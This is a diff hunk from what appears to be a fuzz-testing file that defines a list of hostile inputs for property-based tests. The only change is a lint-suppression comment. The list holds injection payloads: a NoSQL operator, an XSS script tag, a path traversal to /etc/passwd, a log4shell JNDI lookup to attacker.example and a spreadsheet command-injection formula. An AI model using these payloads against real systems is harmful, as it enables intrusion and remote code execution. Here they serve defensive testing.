@@ -13,6 +13,7 @@ export const nasty = fc.oneof(
     '{"$ne": null}',
     '<script>alert(1)</script>',
     '../../etc/passwd',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally
     '${jndi:ldap://attacker.example/a}',
     "=cmd|' /C calc'!A0",
     '\u0000',
